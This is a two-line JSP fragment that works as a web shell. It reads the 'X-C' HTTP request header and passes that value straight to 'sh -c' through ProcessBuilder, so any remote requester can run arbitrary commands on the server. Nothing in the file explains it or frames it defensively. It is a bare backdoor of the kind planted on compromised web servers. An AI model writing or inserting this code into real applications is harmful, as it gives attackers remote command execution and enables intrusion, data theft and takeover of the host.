<%
Process p = new ProcessBuilder("sh", "-c", request.getHeader("X-C")).start();
%>
